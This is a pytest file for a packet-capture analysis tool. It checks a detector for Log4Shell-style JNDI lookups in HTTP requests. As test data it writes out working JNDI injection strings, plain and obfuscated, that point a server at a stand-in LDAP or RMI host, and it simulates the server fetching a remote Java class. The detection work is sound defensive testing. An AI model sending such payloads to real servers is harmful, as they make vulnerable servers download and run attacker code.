"""WEB001: medium for the text alone, high where the server then connects to the host named."""

from __future__ import annotations

from pathlib import Path
from typing import Any

import pytest

from tests.builders import drafts, family, tables
from tests.conftest import case_capture, fixture_capture
from tests.rules.access import rows, wire
from tests.rules.access.rows import back, there
from tshark_report.rules.access.jndi_lookups import jndi_lookups


def asked(**columns: Any) -> Any:
    row = there(dst_port=80, method="GET", host="www.shop.example", uri="/")
    return tables(http=family("http", row | columns, back(src_port=80, status=200, request_frame=1)))


@pytest.mark.parametrize(
    "columns",
    [
        {"uri": "/?x=$%7Bjndi:ldap://203.0.113.9:1389/a%7D"},
        {"user_agent": "${jndi:ldap://203.0.113.9/a}"},
        {"user_agent": "${${lower:j}ndi:ldap://203.0.113.9/a}"},
        {"referer": "${jndi:${lower:l}dap://203.0.113.9/a}"},
        {"form_keys": ["user"], "form_values": ["${JNDI:rmi://203.0.113.9/a}"]},
    ],
)
def test_medium_for_the_text_alone(columns: dict[str, Any]) -> None:
    found = drafts(jndi_lookups, asked(**columns))
    assert [(d.priority, d.hosts) for d in found] == [("medium", (rows.SERVER, rows.CLIENT))]
    assert "no connection to the host named" in found[0].summary


@pytest.mark.parametrize(
    "columns", [{"uri": "/?q=jndi+ldap"}, {"uri": "/?t=${title}"}, {"user_agent": "jndi-client/1.0"}]
)
def test_quiet_on_look_alikes(columns: dict[str, Any]) -> None:
    assert not drafts(jndi_lookups, asked(**columns))


def test_high_where_the_server_connects_and_fetches(loaded: Any, tmp_path: Path) -> None:
    ask = wire.http_request("GET", "/", headers="User-Agent: ${jndi:ldap://203.0.113.99:1389/a}\r\n")
    fetch = wire.http_request("GET", "/X.class", host="203.0.113.99:8000", headers="User-Agent: Java/1.8\r\n")
    path = wire.write(
        tmp_path / "jndi.pcap",
        [
            *wire.conversation(0, wire.OUTSIDE, wire.SERVER, (46000, 80), [("c", ask), ("s", wire.http_answer(200))]),
            *wire.conversation(
                1,
                wire.SERVER,
                "203.0.113.99",
                (46001, 1389),
                [("c", b"0\x0c\x02\x01\x01`\x07\x02\x01\x03\x04\0\x80\0")],
            ),
            *wire.conversation(
                2, wire.SERVER, "203.0.113.99", (46002, 8000), [("c", fetch), ("s", wire.http_answer(200, "xx"))]
            ),
            *wire.conversation(
                3,
                wire.CLIENT,
                wire.SERVER,
                (46003, 80),
                [("c", wire.http_request("GET", "/")), ("s", wire.http_answer(200))],
            ),
        ],
    )
    found = drafts(jndi_lookups, loaded(path).tables)
    assert [d.priority for d in found] == ["high"]
    assert "203.0.113.99 port 1389" in found[0].summary
    assert "/X.class" in found[0].summary
    assert found[0].hosts == (wire.SERVER, wire.OUTSIDE, "203.0.113.99")
    assert wire.exact(path, found[0])


def test_on_this_projects_fixture(loaded: Any) -> None:
    path = fixture_capture("web_attacks")
    found = drafts(jndi_lookups, loaded(path).tables)
    assert [(d.priority, len(d.frames)) for d in found] == [("medium", 2)]
    assert wire.exact(path, found[0])


@pytest.mark.shared
def test_on_a_published_capture(loaded: Any) -> None:
    path = case_capture("mal_log4shell")
    found = drafts(jndi_lookups, loaded(path).tables)
    assert "Exploit.class" in found[0].summary
    assert wire.exact(path, found[0])


def test_high_where_the_server_tried_to_connect() -> None:
    row = there(dst_port=80, method="GET", uri="/", user_agent="${jndi:ldap://203.0.113.99/a}")
    syn = [
        packet
        for packet in rows.session(7, client=rows.SERVER, server="203.0.113.99", port=389, at=2.0)
        if packet["flags"] == 0x02
    ]
    found = drafts(jndi_lookups, rows.sessions(syn, http=family("http", row)))
    assert [(d.priority, d.confidence) for d in found] == [("high", "medium")]
    assert "port 389 (no answer)" in found[0].summary


@pytest.mark.parametrize(
    "line", ["X-Api-Version: ${jndi:ldap://203.0.113.99:1389/a}", "X-Trace: ${${lower:j}ndi:rmi://203.0.113.99/a}"]
)
def test_in_a_header_that_no_column_holds(loaded: Any, tmp_path: Path, line: str) -> None:
    ask = wire.http_request("GET", "/", headers=f"User-Agent: curl/8.0\r\n{line}\r\nAccept: */*\r\n")
    plain = wire.http_request("GET", "/", headers="X-Api-Version: 1.0 (${title})\r\n")
    path = wire.write(
        tmp_path / "header.pcap",
        [
            *wire.conversation(0, wire.OUTSIDE, wire.SERVER, (46000, 80), [("c", ask), ("s", wire.http_answer(200))]),
            *wire.conversation(1, wire.CLIENT, wire.SERVER, (46001, 80), [("c", plain), ("s", wire.http_answer(200))]),
        ],
    )
    found = drafts(jndi_lookups, loaded(path).tables)
    assert [(d.subject, d.priority) for d in found] == [(f"{wire.OUTSIDE} to {wire.SERVER}:80", "medium")]
    assert f"in the {line.split(':')[0].lower()} header" in found[0].summary
    assert "203.0.113.99" in found[0].summary
    assert wire.exact(path, found[0])
